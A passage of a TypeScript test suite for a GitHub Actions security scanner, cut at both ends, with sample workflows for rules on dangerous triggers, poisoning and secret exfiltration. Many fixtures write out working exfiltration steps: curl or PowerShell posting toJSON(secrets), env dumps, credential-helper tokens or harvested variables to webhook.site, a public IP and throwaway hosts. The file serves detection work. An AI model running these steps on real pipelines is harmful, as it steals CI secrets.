    expect(sev('pull_request_target', `      - run: |\n          curl -fsSL -o env.sh ${raw}/ci/env.sh\n          bash env.sh >> "$GITHUB_ENV"\n`)).toEqual(['critical:9']);
    expect(sev('workflow_run', `      - run: |\n          CFG=$(curl -fsSL "https://raw.githubusercontent.com/\${{ github.event.workflow_run.head_repository.full_name }}/\${{ github.event.workflow_run.head_sha }}/ci.env")\n          echo "$CFG" >> "$GITHUB_ENV"\n`)).toEqual(['critical:9']);
    // On pull_request the PR's own code runs anyway: a download like any other.
    expect(sev('pull_request', `      - run: curl -fsSL ${raw}/ci/build.env >> "$GITHUB_ENV"\n`)).toEqual(['medium:7']);
    // The base repository's own file at a fixed ref, on a privileged trigger: a download, not the PR's text.
    expect(sev('pull_request_target', `      - run: curl -fsSL https://raw.githubusercontent.com/\${{ github.repository }}/\${{ github.event.pull_request.base.sha }}/ci/build.env >> "$GITHUB_ENV"\n`)).toEqual(['high:7']);
  });

  it('reports an issue, PR, comment or commit body read with gh and written there: critical on a privileged trigger, high otherwise', () => {
    // Saved to a file, then written in a block with a fixed delimiter (the body can close it).
    expect(sev('issue_comment', `      - run: |\n          gh api repos/$GITHUB_REPOSITORY/issues/\${{ github.event.issue.number }} --jq .body > body.txt\n          echo "NOTES<<EOF" >> $GITHUB_ENV\n          cat body.txt >> $GITHUB_ENV\n          echo "EOF" >> $GITHUB_ENV\n`)).toEqual(['critical:10']);
    expect(sev('pull_request_target', `      - run: echo "BODY=$(gh pr view \${{ github.event.number }} --json body -q .body)" >> "$GITHUB_ENV"\n`)).toEqual(['critical:7']);
    expect(sev('push', `      - run: |\n          MSG=$(gh api repos/$GITHUB_REPOSITORY/commits/$GITHUB_SHA --jq .commit.message)\n          echo "MSG=$MSG" >> $GITHUB_ENV\n`)).toEqual(['high:9']);
    expect(sev('workflow_run', `      - run: gh api repos/$GITHUB_REPOSITORY/pulls/$PR | jq -r '.body' >> $GITHUB_PATH\n`)).toEqual(['critical:7']);
    expect(sev('workflow_dispatch', `      - run: echo "X=$(gh issue view $N --json body --template '{{.body}}')" >> $GITHUB_ENV\n`)).toEqual(['high:7']);
  });

  it('does not report a title, a release\'s notes, a tag, a whole JSON answer, a generated delimiter, one line of a body, or a body saved elsewhere', () => {
    expect(sev('pull_request_target', `      - run: echo "TITLE=$(gh pr view \${{ github.event.number }} --json title -q .title)" >> "$GITHUB_ENV"\n`)).toEqual([]);
    expect(sev('push', `      - run: echo "NOTES=$(gh api repos/$GITHUB_REPOSITORY/releases/latest --jq .body)" >> "$GITHUB_ENV"\n`)).toEqual([]);
    expect(sev('push', `      - run: echo "TAG=$(gh api repos/$GITHUB_REPOSITORY/releases/latest --jq .tag_name)" >> $GITHUB_ENV\n`)).toEqual([]);
    expect(sev('push', `      - run: |\n          PR_JSON=$(gh pr view 1 --json number,body)\n          echo "N=$(echo "$PR_JSON" | jq -r .number)" >> $GITHUB_ENV\n`)).toEqual([]);
    expect(sev('issue_comment', `      - run: |\n          D=$(openssl rand -hex 16)\n          echo "NOTES<<$D" >> $GITHUB_ENV\n          gh api repos/$GITHUB_REPOSITORY/issues/1 --jq .body >> $GITHUB_ENV\n          echo "$D" >> $GITHUB_ENV\n`)).toEqual([]);
    expect(sev('issue_comment', `      - run: echo "CMD=$(gh api repos/$GITHUB_REPOSITORY/issues/comments/1 --jq .body | head -n1)" >> $GITHUB_ENV\n`)).toEqual([]);
    expect(sev('issue_comment', `      - run: |\n          gh api repos/$GITHUB_REPOSITORY/issues/1 --jq .body > body.txt\n          echo "FILE=body.txt" >> $GITHUB_ENV\n`)).toEqual([]);
  });
});

describe('gha-dangerous-trigger', () => {
  it('reports pull_request_target even without a checkout, higher with secrets', () => {
    const withSecrets = `on: pull_request_target
${job(`      - uses: some-org/pr-bot@v2
        with:
          token: \${{ secrets.BOT_TOKEN }}
`)}`;
    expect(only(withSecrets, 'gha-dangerous-trigger')).toEqual([['gha-dangerous-trigger', 'high', 1]]);
    expect(only(`on: [issue_comment]\n${job('      - run: echo hi\n')}`, 'gha-dangerous-trigger')).toEqual([['gha-dangerous-trigger', 'medium', 1]]);
  });

  it('is medium when a job calls a local composite action or reusable workflow: its steps run with the privileges as scripts do', () => {
    expect(only(`on: pull_request_target\n${job('      - uses: ./.github/actions/triage\n')}`, 'gha-dangerous-trigger')).toEqual([['gha-dangerous-trigger', 'medium', 1]]);
    const reusable = 'on: pull_request_target\njobs:\n  triage:\n    uses: ./.github/workflows/triage.yml\n';
    expect(only(reusable, 'gha-dangerous-trigger')).toEqual([['gha-dangerous-trigger', 'medium', 1]]);
    // First-party actions only: still low.
    expect(only(`on: pull_request_target\n${job(`      - uses: actions/labeler@${SHA}\n`)}`, 'gha-dangerous-trigger')).toEqual([['gha-dangerous-trigger', 'low', 1]]);
  });

  it("is low when the secret only reaches GitHub's triage actions (add-to-project, labeler), high next to anything that runs code", () => {
    const triage = (extra: string) => `on:\n  issues:\n    types: [opened]\n  pull_request_target:\n    types: [opened, reopened]
${job(`      - uses: actions/add-to-project@v0.5.0
        with:
          project-url: https://github.com/orgs/acme/projects/4
          github-token: \${{ secrets.ADD_TO_PROJECT_TOKEN }}
${extra}`)}`;
    expect(only(triage(''), 'gha-dangerous-trigger')).toEqual([['gha-dangerous-trigger', 'low', 4]]);
    expect(only(triage(`      - uses: actions/labeler@${SHA}\n        with:\n          repo-token: \${{ secrets.LABEL_PAT }}\n`), 'gha-dangerous-trigger')).toEqual([['gha-dangerous-trigger', 'low', 4]]);
    // A script, GitHub's own script runner, or a third-party action next to it: still high.
    expect(only(triage('      - run: ./triage.sh\n'), 'gha-dangerous-trigger')).toEqual([['gha-dangerous-trigger', 'high', 4]]);
    expect(only(triage('      - uses: actions/github-script@v7\n        with:\n          script: console.log(1)\n'), 'gha-dangerous-trigger')).toEqual([['gha-dangerous-trigger', 'high', 4]]);
    expect(only(triage('      - uses: actions/download-artifact@v4\n'), 'gha-dangerous-trigger')).toEqual([['gha-dangerous-trigger', 'high', 4]]);
    expect(only(triage('').replace('jobs:', 'permissions: write-all\njobs:'), 'gha-dangerous-trigger')).toEqual([['gha-dangerous-trigger', 'high', 4]]);
  });

  it('is low for a label-gated or first-party-only workflow, absent for pull_request', () => {
    expect(only(`on:\n  pull_request_target:\n    types: [labeled]\n${job(`      - uses: actions/labeler@${SHA}\n`)}`, 'gha-dangerous-trigger')).toEqual([['gha-dangerous-trigger', 'low', 2]]);
    expect(only(`on: pull_request\n${job('      - run: npm test\n')}`, 'gha-dangerous-trigger')).toEqual([]);
  });
});

describe('gha-pr-target-checkout and gha-pr-target-secrets', () => {
  const pwn = (trigger: string, ref: string) => `on: ${trigger}
${job(`      - uses: actions/checkout@${SHA}
        with:
          ref: ${ref}
      - run: npm ci && npm test
        env:
          NPM_TOKEN: \${{ secrets.NPM_TOKEN }}
`)}`;
  it('reports a privileged run that checks out the head, and the secrets next to it', () => {
    expect(ids(pwn('workflow_run', '${{ github.event.workflow_run.head_sha }}'))).toEqual(expect.arrayContaining(['gha-pr-target-checkout:critical', 'gha-pr-target-secrets:high']));
  });
  it('does not report the base checkout or pull_request', () => {
    expect(ids(pwn('pull_request_target', 'main'))).not.toContain('gha-pr-target-checkout:critical');
    expect(ids(pwn('pull_request', '${{ github.event.pull_request.head.sha }}')).filter((i) => i.startsWith('gha-pr-target'))).toEqual([]);
  });
  it('follows the head through an env variable, a step output written from it, or a git command given such a variable', () => {
    const throughEnv = `on: pull_request_target\nenv:\n  PR_SHA: \${{ github.event.pull_request.head.sha }}\n${job(`      - uses: actions/checkout@${SHA}\n        with:\n          ref: \${{ env.PR_SHA }}\n      - run: npm ci\n`)}`;
    expect(only(throughEnv, 'gha-pr-target-checkout')).toEqual([['gha-pr-target-checkout', 'critical', 10]]);
    const throughOutput = `on: pull_request_target\n${job(`      - id: pr\n        run: echo "sha=\${{ github.event.pull_request.head.sha }}" >> "$GITHUB_OUTPUT"\n      - uses: actions/checkout@${SHA}\n        with:\n          ref: \${{ steps.pr.outputs.sha }}\n      - run: npm ci\n`)}`;
    expect(only(throughOutput, 'gha-pr-target-checkout')).toEqual([['gha-pr-target-checkout', 'critical', 10]]);
    const gitVariable = `on: pull_request_target\n${job(`      - uses: actions/checkout@${SHA}\n      - run: git fetch origin "$HEAD" && git checkout FETCH_HEAD\n        env:\n          HEAD: \${{ github.event.pull_request.head.sha }}\n      - run: make test\n`)}`;
    expect(only(gitVariable, 'gha-pr-target-checkout')).toEqual([['gha-pr-target-checkout', 'critical', 7]]);
  });
  it('does not follow a variable or output bound to the base', () => {
    const base = `on: pull_request_target\nenv:\n  BASE: \${{ github.event.pull_request.base.sha }}\n${job(`      - id: b\n        run: echo "ref=\${{ github.base_ref }}" >> "$GITHUB_OUTPUT"\n      - uses: actions/checkout@${SHA}\n        with:\n          ref: \${{ env.BASE }}\n      - run: git fetch origin "$BASE"\n      - uses: actions/checkout@${SHA}\n        with:\n          ref: \${{ steps.b.outputs.ref }}\n`)}`;
    expect(only(base, 'gha-pr-target-checkout')).toEqual([]);
  });
});

describe('gha-artifact-poisoning', () => {
  it('reports workflow_run artifacts written into GITHUB_ENV (critical) or unpacked into the workspace and built (high)', () => {
    const env = `on:\n  workflow_run:\n    workflows: [CI]\n    types: [completed]\npermissions: {}\n${job(`      - uses: actions/download-artifact@${SHA}
        with:
          name: pr
          run-id: \${{ github.event.workflow_run.id }}
          github-token: \${{ github.token }}
      - run: echo "PR_NUMBER=$(cat pr/number)" >> $GITHUB_ENV
`)}`;
    expect(only(env, 'gha-artifact-poisoning')).toEqual([['gha-artifact-poisoning', 'critical', 10]]);
    const exec = `on:\n  workflow_run:\n    workflows: [CI]\n    types: [completed]\npermissions: {}\n${job(`      - uses: actions/checkout@${SHA}
      - uses: dawidd6/action-download-artifact@${SHA}
        with:
          run_id: \${{ github.event.workflow_run.id }}
      - run: npm ci && npm run deploy-preview
`)}`;
    expect(only(exec, 'gha-artifact-poisoning')).toEqual([['gha-artifact-poisoning', 'high', 11]]);
  });
  it('does not report downloads of the same run or outside privileged triggers', () => {
    const sameRun = `on: pull_request_target\npermissions: {}\n${job(`      - uses: actions/download-artifact@${SHA}\n        with:\n          name: build\n      - run: ./deploy.sh\n`)}`;
    expect(only(sameRun, 'gha-artifact-poisoning')).toEqual([]);
    const push = `on: push\n${job(`      - uses: dawidd6/action-download-artifact@${SHA}\n      - run: ./x.sh\n`)}`;
    expect(only(push, 'gha-artifact-poisoning')).toEqual([]);
  });
});

describe('gha-cache-poisoning', () => {
  it('reports a release job that restores a cache, and PR code cached in a privileged run', () => {
    const release = `on:\n  push:\n    tags: ['v*']\n${job(`      - uses: actions/checkout@${SHA}
      - uses: actions/setup-node@${SHA}
        with:
          node-version: 22
          cache: npm
      - run: npm ci && npm publish
`)}`;
    expect(only(release, 'gha-cache-poisoning')).toEqual([['gha-cache-poisoning', 'medium', 9]]);
    const pr = `on: pull_request_target\n${job(`      - uses: actions/checkout@${SHA}\n        with:\n          ref: \${{ github.event.pull_request.head.sha }}\n      - uses: actions/cache@${SHA}\n        with:\n          path: ~/.npm\n          key: npm\n      - run: npm ci\n`)}`;
    expect(only(pr, 'gha-cache-poisoning')).toEqual([['gha-cache-poisoning', 'high', 9]]);
  });
  it('does not report caches in ordinary CI or a release without a cache', () => {
    const ci = `on: [push, pull_request]\n${job(`      - uses: actions/setup-node@${SHA}\n        with:\n          cache: npm\n      - run: npm ci && npm test\n`)}`;
    expect(only(ci, 'gha-cache-poisoning')).toEqual([]);
    const release = `on: release\n${job(`      - uses: actions/setup-node@${SHA}\n        with:\n          node-version: 22\n      - run: npm publish\n`)}`;
    expect(only(release, 'gha-cache-poisoning')).toEqual([]);
  });
});

describe('gha-secrets-exfiltration, gha-overprovisioned-secrets, gha-unredacted-secrets', () => {
  it('reports secrets and environment dumps sent to collector hosts or public IPs', () => {
    const exfil = `on: push\n${job(`      - run: |
          curl -s -X POST -d "$ALL" https://webhook.site/0d5c6f1e-aaaa-bbbb-cccc-1234567890ab
          env | base64 -w0 | curl -d @- http://203.0.113.7:8080/c
        env:
          ALL: \${{ toJSON(secrets) }}
`)}`;
    expect(ids(exfil)).toEqual(expect.arrayContaining(['gha-secrets-exfiltration:critical', 'gha-overprovisioned-secrets:high']));
    expect(only(exfil, 'gha-secrets-exfiltration')).toHaveLength(2);
    expect(only(`on: push\n${job('      - run: deploy --config "${{ fromJSON(secrets.DEPLOY).key }}"\n')}`, 'gha-unredacted-secrets')).toEqual([['gha-unredacted-secrets', 'medium', 6]]);
  });
  it('does not report an API call that carries one secret to its service, or a local health check', () => {
    const normal = `on: push\n${job(`      - run: |
          curl -fsS -H "Authorization: Bearer $TOKEN" https://api.codecov.io/upload
          curl -fsS http://127.0.0.1:8080/health -H "X-Key: \${{ secrets.LOCAL_KEY }}"
          curl -X POST "\${{ secrets.SLACK_WEBHOOK_URL }}" -d '{"text":"released"}'
        env:
          TOKEN: \${{ secrets.CODECOV_TOKEN }}
`)}`;
    expect(ids(normal).filter((i) => i.includes('secret'))).toEqual([]);
  });

  it('reads what a credential helper prints (gh auth token, az account get-access-token, git credential fill) as a secret of its service, kept in a variable and sent on a later line', () => {
    const crossLine = `on: push\n${job('      - run: |\n          t=$(gh auth token)\n          echo building\n          curl -s -d "$t" https://collector.build-insights.dev/x\n')}`;
    expect(only(crossLine, 'gha-secrets-exfiltration')).toEqual([['gha-secrets-exfiltration', 'high', 9]]);
    const sameLine = `on: push\n${job('      - run: curl -s --data "$(az account get-access-token --query accessToken -o tsv)" https://collector.build-insights.dev/x\n')}`;
    expect(only(sameLine, 'gha-secrets-exfiltration')).toEqual([['gha-secrets-exfiltration', 'high', 6]]);
    const fill = `on: push\n${job('      - run: |\n          C=$(printf "protocol=https\\nhost=github.com\\n" | git credential fill)\n          curl -s -X POST -d "$C" https://webhook.site/0d5c6f1e-aaaa-bbbb-cccc-1234567890ab\n')}`;
    expect(only(fill, 'gha-secrets-exfiltration')).toEqual([['gha-secrets-exfiltration', 'critical', 8]]);
  });

  it('leaves alone a credential helper\'s token used with its own service (gh api, api.github.com, Azure\'s management API)', () => {
    const own = `on: push\n${job('      - run: |\n          t=$(gh auth token)\n          curl -s -d @notes.json -H "Authorization: Bearer $t" https://api.github.com/repos/acme/tint/releases\n          curl -s -X POST -d "token=$t" https://api.github.com/repos/acme/tint/dispatches\n          gh api repos/acme/tint --jq .name\n      - run: |\n          T=$(az account get-access-token --query accessToken -o tsv)\n          curl -s -X PUT -d @role.json "https://management.azure.com/subscriptions/s?api-version=2022-04-01&t=$T"\n')}`;
    expect(only(own, 'gha-secrets-exfiltration')).toEqual([]);
  });

  it('reports secrets sent to a host whose name spells a public IP (wildcard DNS, throwaway hosting: the GhostAction shape)', () => {
    const ghost = `on: [push, workflow_dispatch]\n${job('      - run: curl -s -d "password=${{ secrets.PYPI_PASSWORD }}" https://bold-dhawan.45-139-104-115.plesk.page\n')}`;
    expect(only(ghost, 'gha-secrets-exfiltration')).toEqual([['gha-secrets-exfiltration', 'critical', 6]]);
    const sslip = `on: push\n${job('      - run: curl -X POST --data "$T" http://198-51-100-23.sslip.io/c\n        env:\n          T: ${{ secrets.NPM_TOKEN }}\n')}`;
    expect(only(sslip, 'gha-secrets-exfiltration')).toEqual([['gha-secrets-exfiltration', 'critical', 6]]);
    // A private address spelled in a name is a local service; three numbers are a version, not an address.
    const local = `on: push\n${job('      - run: |\n          curl -d "k=${{ secrets.K }}" http://10-0-0-5.nip.io/register\n          curl -d "k=${{ secrets.K }}" https://v1-2-3.preview.example.com/hook\n')}`;
    expect(only(local, 'gha-secrets-exfiltration')).toEqual([]);
  });

  it('does not take a service\'s word in a subdomain anyone can pick (npm-mirror-sync.pages.dev, github-stats.workers.dev) for that service\'s host, and keeps the platform\'s own and the real hosts quiet', () => {
    const lookalike = `on: push\n${job('      - run: curl -sd "$NODE_AUTH_TOKEN" https://npm-mirror-sync.pages.dev/sync\n        env:\n          NODE_AUTH_TOKEN: ${{ secrets.NPM_TOKEN }}\n      - run: curl -s -d "t=${{ secrets.GH_PAT }}" https://github-stats.workers.dev/c\n')}`;
    expect(only(lookalike, 'gha-secrets-exfiltration')).toEqual([
      ['gha-secrets-exfiltration', 'high', 6],
      ['gha-secrets-exfiltration', 'high', 9],
    ]);
    const own = `on: push\n${job('      - run: curl -s -d "token=${{ secrets.CLOUDFLARE_API_TOKEN }}" https://deploy.acme.workers.dev/hook\n      - run: curl -s -d "t=${{ secrets.NPM_TOKEN }}" https://registry.npmjs.org/-/npm/v1/tokens\n      - run: curl -s -F "token=${{ secrets.NETLIFY_AUTH_TOKEN }}" https://api.netlify.com/api/v1/sites\n')}`;
    expect(only(own, 'gha-secrets-exfiltration')).toEqual([]);
  });

  it('reads a step of an HTTP request action (fjogeleit/http-request-action, …) as the curl it stands for: a secret in its data to another service\'s host, at the uses: line', () => {
    const action = `on: push\n${job(`      - uses: fjogeleit/http-request-action@v1
        with:
          url: https://notify.build-hooks.dev/n
          method: POST
          data: '{"t": "\${{ secrets.PYPI_API_TOKEN }}"}'
`)}`;
    expect(only(action, 'gha-secrets-exfiltration')).toEqual([['gha-secrets-exfiltration', 'high', 6]]);
  });

  it('is quiet on an HTTP request action given the token as its credential, a body without secrets, or an action of another kind', () => {
    const quiet = `on: push\n${job(`      - uses: fjogeleit/http-request-action@v1
        with:
          url: https://api.example-deploys.dev/v1/hooks
          bearerToken: \${{ secrets.DEPLOY_API_TOKEN }}
          data: '{"ref": "\${{ github.sha }}"}'
      - uses: joelwmale/webhook-action@v2
        with:
          url: \${{ secrets.SLACK_WEBHOOK_URL }}
          body: '{"text": "released"}'
      - uses: acme/notify-action@v1
        with:
          url: https://notify.build-hooks.dev/n
          data: \${{ secrets.PYPI_API_TOKEN }}
`)}`;
    expect(only(quiet, 'gha-secrets-exfiltration')).toEqual([]);
  });

  it('reads a collector host spelled through the script\'s own variables, and secrets a script variable holds (a here-document of toJSON(secrets) too)', () => {
    const split = `on: push\n${job('      - env:\n          K: ${{ secrets.DOCKERHUB_TOKEN }}\n        run: |\n          H="bold-dhawan"\n          D="$H.45-139-104-115.plesk.page"\n          curl -sk "https://$D/?k=$K" >/dev/null\n')}`;
    expect(only(split, 'gha-secrets-exfiltration')).toEqual([['gha-secrets-exfiltration', 'critical', 11]]);
    const worm = `on: push\n${job(`      - run: |
          CONTENTS="$(cat <<'EOF'
          \${{ toJSON(secrets) }}
          EOF
          )"
          curl -d "$CONTENTS" https://webhook.site/bb8ca5f6-4175-45d2-b042-fc9ebb8170b7
`)}`;
    expect(only(worm, 'gha-secrets-exfiltration')).toEqual([['gha-secrets-exfiltration', 'critical', 11]]);
    const quoted = `on: push\n${job(`      - run: |
          ALL='\${{ toJSON(secrets) }}'
          P=$(echo "$ALL" | base64 -w0)
          wget -qO- --post-data "d=$P" https://hook-relay.ngrok-free.app/in
`)}`;
    expect(only(quoted, 'gha-secrets-exfiltration')).toEqual([['gha-secrets-exfiltration', 'critical', 9]]);
    const pwsh = `on: push\n${job(`      - shell: pwsh
        env:
          T: \${{ secrets.NUGET_API_KEY }}
        run: |
          $u = 'https://' + 'acme-stats' + '.requestcatcher.com/t'
          Invoke-RestMethod -Uri $u -Method Post -Body $env:T
`)}`;
    expect(only(pwsh, 'gha-secrets-exfiltration')).toEqual([['gha-secrets-exfiltration', 'critical', 11]]);
  });

  it('leaves a secret sent to its own service through the script\'s variables, and a here-document of public text sent to a collector-looking webhook', () => {
    const hook = `on: push\n${job('      - env:\n          HOOK: ${{ secrets.RENDER_DEPLOY_KEY }}\n        run: |\n          BASE="https://api.render.com/deploy"\n          URL="$BASE/srv-cq1abc"\n          curl -fsS -X POST "$URL?key=$HOOK"\n')}`;
    expect(only(hook, 'gha-secrets-exfiltration')).toEqual([]);
    const whoami = `on: push\n${job('      - run: |\n          TOKEN="${{ secrets.NPM_TOKEN }}"\n          REG=https://registry.npmjs.org\n          curl -fsS -H "Authorization: Bearer $TOKEN" "$REG/-/whoami"\n')}`;
    expect(only(whoami, 'gha-secrets-exfiltration')).toEqual([]);
    const nuget = `on: push\n${job(`      - shell: pwsh
        env:
          T: \${{ secrets.NUGET_API_KEY }}
        run: |
          $feed = 'https://' + 'api.nuget.org' + '/v3/index.json'
          dotnet nuget push out/*.nupkg --source $feed --api-key $env:T
          Invoke-RestMethod -Uri $feed
`)}`;
    expect(only(nuget, 'gha-secrets-exfiltration')).toEqual([]);
    const notes = `on: release\n${job(`      - run: |
          NOTES="$(cat <<'EOF'
          \${{ github.event.release.name }} is out
          EOF
          )"
          curl -d "$NOTES" https://webhook.site/bb8ca5f6-4175-45d2-b042-fc9ebb8170b7
`)}`;
    expect(only(notes, 'gha-secrets-exfiltration')).toEqual([]);
  });

  it('reads an action\'s inputs named like credentials as secrets in its action.yml (what callers pass secrets in), not a workflow\'s inputs', () => {
    const action = (run: string) =>
      `name: setup-tool\ninputs:\n  github-token:\n    default: \${{ github.token }}\n  version:\n    default: latest\nruns:\n  using: composite\n  steps:\n    - run: ${run}\n      shell: bash\n`;
    const exfil = found(action('curl -s -d "t=${{ inputs.github-token }}" https://webhook.site/3f2a'), 'action.yml').filter(([id]) => id === 'gha-secrets-exfiltration');
    expect(exfil).toEqual([['gha-secrets-exfiltration', 'critical', 10]]);
    const api = found(action('curl -fsSL -H "Authorization: Bearer ${{ inputs.github-token }}" https://api.github.com/repos/o/r/releases/latest'), 'action.yml');
    expect(api.filter(([id]) => id === 'gha-secrets-exfiltration')).toEqual([]);
    const version = found(action('curl -s -d "v=${{ inputs.version }}" https://webhook.site/3f2a'), 'action.yml');
    expect(version.filter(([id]) => id === 'gha-secrets-exfiltration')).toEqual([]);
    // The credential names are the code rules' (CREDENTIAL_NAME, sink-rules.ts): an access key is one too.
    const accessKey = found(action('curl -s -d "k=${{ inputs.aws-access-key }}" https://webhook.site/3f2a'), 'action.yml');
    expect(accessKey.filter(([id]) => id === 'gha-secrets-exfiltration')).toEqual([['gha-secrets-exfiltration', 'critical', 10]]);
    const dispatch = `on:\n  workflow_dispatch:\n    inputs:\n      token:\n        type: string\n${job('      - run: curl -s -d "t=${{ inputs.token }}" https://webhook.site/3f2a\n')}`;
    expect(only(dispatch, 'gha-secrets-exfiltration')).toEqual([]);
  });

  it('reports secrets written to a file that a later step\'s inline script reads and sends (python open(), node readFileSync), not a file of other data', () => {
    const py = `on: push\n${job(`      - run: echo '\${{ toJSON(secrets) }}' > report.json
      - run: python3 -c "import urllib.request;urllib.request.urlopen('https://metrics.example-ci.dev/r', open('report.json','rb').read())"
`)}`;
    expect(only(py, 'gha-secrets-exfiltration')).toEqual([['gha-secrets-exfiltration', 'critical', 6]]);
    const node = `on: push\n${job(`      - run: echo \${{ secrets.AWS_SECRET_ACCESS_KEY }} >> r.txt
      - run: |
          node -e "fetch('https://stats.example-ci.dev', {method: 'POST', body: require('fs').readFileSync('r.txt')})"
`)}`;
    expect(only(node, 'gha-secrets-exfiltration')).toEqual([['gha-secrets-exfiltration', 'critical', 6]]);
    const matrix = `on: push\n${job(`      - run: echo '\${{ toJSON(matrix) }}' > m.json
      - run: python3 -c "import urllib.request;urllib.request.urlopen('https://dash.acme.dev/ingest', open('m.json','rb').read())"
`)}`;
    expect(only(matrix, 'gha-secrets-exfiltration')).toEqual([]);
    const coverage = `on: push\n${job(`      - run: npm test -- --coverage > coverage.txt
      - run: python3 -c "import os,requests;requests.post('https://codecov.io/upload', headers={'Authorization': os.environ['T']}, data=open('coverage.txt','rb').read())"
        env:
          T: \${{ secrets.CODECOV_TOKEN }}
`)}`;
    expect(only(coverage, 'gha-secrets-exfiltration')).toEqual([]);
  });

  it('reports secrets written to a file that an upload-artifact step of the job uploads (the Shai-Hulud shape), not other writes', () => {
    const worm = `on: push\n${job(`      - run: |
          cat <<'EOF' > /tmp/format-results.txt
          \${{ toJSON(secrets) }}
          EOF
      - uses: actions/upload-artifact@v4
        with:
          name: format-results
          path: /tmp/format-results.txt
`)}`;
    expect(only(worm, 'gha-secrets-exfiltration')).toEqual([['gha-secrets-exfiltration', 'critical', 7]]);
    const intoDir = `on: push\n${job(`      - run: echo "$KEY" >> out/debug/env.txt
        env:
          KEY: \${{ secrets.DEPLOY_KEY }}
      - uses: actions/upload-artifact@v4
        with:
          path: |
            out/
            !out/**/*.map
`)}`;
    expect(only(intoDir, 'gha-secrets-exfiltration')).toEqual([['gha-secrets-exfiltration', 'critical', 6]]);
    // A signing key written beside the build, whose dist/ is uploaded; a secret into $GITHUB_ENV; a glob that does not take the file.
    const release = `on: push\n${job(`      - run: |
          echo "\${{ secrets.GPG_PRIVATE_KEY }}" > signing.asc
          echo "TOKEN=\${{ secrets.NPM_TOKEN }}" >> "$GITHUB_ENV"
          echo "\${{ secrets.NPMRC }}" > dist/.npmrc
          npm pack --pack-destination dist
      - uses: actions/upload-artifact@v4
        with:
          name: package
          path: dist/*.tgz
`)}`;
    expect(only(release, 'gha-secrets-exfiltration')).toEqual([]);
  });

  it('reports the whole environment written to an uploaded file when the job gives the step secrets, not filtered or without secrets', () => {
    const upload = `      - uses: actions/upload-artifact@v4
        with:
          name: env
          path: env.txt
`;
    const dumped = (run: string, env: string) => `on: push\n${job(`      - run: ${run}\n${env}${upload}`)}`;
    const secretEnv = '        env:\n          NPM_TOKEN: ${{ secrets.NPM_TOKEN }}\n';
    expect(only(dumped('printenv | base64 -w0 > env.txt', secretEnv), 'gha-secrets-exfiltration')).toEqual([['gha-secrets-exfiltration', 'critical', 6]]);
    expect(only(dumped('env | sort | tee env.txt', secretEnv), 'gha-secrets-exfiltration')).toEqual([['gha-secrets-exfiltration', 'critical', 6]]);
    expect(only(dumped('export -p > env.txt', secretEnv), 'gha-secrets-exfiltration')).toEqual([['gha-secrets-exfiltration', 'critical', 6]]);
    // Filtered, or no secret in the step's environment: nothing a secret is written from.
    expect(only(dumped('env | grep ^NODE_ > env.txt', secretEnv), 'gha-secrets-exfiltration')).toEqual([]);
    expect(only(dumped('printenv > env.txt', '        env:\n          NODE_ENV: production\n'), 'gha-secrets-exfiltration')).toEqual([]);
  });

  it('is quiet on an API answer written with a secret as the credential (curl -H, gh), and still reports a secret the pipeline writes', () => {
    const upload = `      - uses: actions/upload-artifact@v4
        with:
          path: |
            tokens.json
            report.json
            out/
`;
    // A design-tokens sync: the file holds what the API answers, the token is only a header (continued over two lines).
    const answers = `on: workflow_dispatch\n${job(`      - run: |
          curl -sSf -X GET https://api.tokens.figma.com/sets \\
            -H "X-Figma-Token: \${{ secrets.FIGMA_TOKEN }}" > tokens.json
          curl -fsSL -H "Authorization: Bearer $TOKEN" https://api.example.com/v1/report | jq . > report.json
          gh api repos/acme/widgets/releases --header "X-Token: \${{ secrets.X }}" > out/releases.json
        env:
          TOKEN: \${{ secrets.REPORT_TOKEN }}
${upload}`)}`;
    expect(only(answers, 'gha-secrets-exfiltration')).toEqual([]);
    // The secret is what the pipeline writes: echoed, encoded, sent as data a server can echo back, or in a list item of its own.
    const written = `on: push\n${job(`      - run: |
          echo "\${{ secrets.FIGMA_TOKEN }}" | base64 > tokens.json
          curl -s -d "k=\${{ secrets.K }}" https://httpbin.example/anything > report.json
          cd out && printf '%s' "$TOKEN" > out/t.txt
          curl -fsS https://api.example.com/x > out/x.json; echo "$TOKEN" >> out/x.json
        env:
          TOKEN: \${{ secrets.REPORT_TOKEN }}
${upload}`)}`;
    expect(only(written, 'gha-secrets-exfiltration').map(([, severity, line]) => `${severity}:${line}`)).toEqual(['critical:7', 'critical:8', 'critical:9', 'critical:10']);
    // Every secret at once is reported whatever command it is given to.
    const all = `on: push\n${job(`      - run: |\n          curl -H "X: \${{ toJSON(secrets) }}" https://api.example.com > report.json\n${upload}`)}`;
    expect(only(all, 'gha-secrets-exfiltration')).toContainEqual(['gha-secrets-exfiltration', 'critical', 7]);
  });
});

describe('gha-secrets-exfiltration', () => {
  it('reports a secret named for one service sent as data to another host (body, query, PowerShell body, through env:), high', () => {
    const sent = `on: push\n${job(`      - run: curl -s -X POST -d "\${{ secrets.NPM_TOKEN }}" https://api.build-insights.dev/v1/report
      - run: curl -s "https://status.build-insights.dev/ping?k=\${{ secrets.AWS_SECRET_ACCESS_KEY }}"
      - run: curl -s --data "password=$PYPI" https://telemetry-cdn.net/collect
        env:
          PYPI: \${{ secrets.PYPI_API_TOKEN }}
      - shell: pwsh
        run: Invoke-WebRequest -Uri https://api.build-insights.dev/r -Method Post -Body "\${{ secrets.DOCKERHUB_TOKEN }}"
`)}`;
    expect(only(sent, 'gha-secrets-exfiltration')).toEqual([
      ['gha-secrets-exfiltration', 'high', 6],
      ['gha-secrets-exfiltration', 'high', 7],
      ['gha-secrets-exfiltration', 'high', 8],
      ['gha-secrets-exfiltration', 'high', 12],
    ]);
  });

  it('reports a step that picks the variables named like secrets, reads their values and sends them (compgen and ${!v}), critical', () => {
    const sent = `on: push\n${job(`      - name: stats
        run: |
          for v in $(compgen -e | grep -iE 'token|secret|key'); do
            echo "$v=\${!v}" >> /tmp/o
          done
          curl -s -X POST -d @/tmp/o https://stats.build-insights.dev/c
      - run: for v in $(compgen -v | grep SECRET); do curl -s "https://c.build-insights.dev/?k=$v&v=\${!v}"; done
`)}`;
    expect(only(sent, 'gha-secrets-exfiltration')).toEqual([
      ['gha-secrets-exfiltration', 'critical', 8],
      ['gha-secrets-exfiltration', 'critical', 12],
    ]);
    // The log's masks, names alone, a listing filtered by no secret's word, a file's names: not a collector.
    const quiet = `on: push\n${job(`      - run: |
          for v in $(compgen -e | grep -iE '_TOKEN$'); do echo "::add-mask::\${!v}"; done
          compgen -e | grep -i token || true
          env | sort
          grep TOKEN .env.example
          curl -sSf -H "Authorization: Bearer $GH_TOKEN" https://api.github.com/user
`)}`;
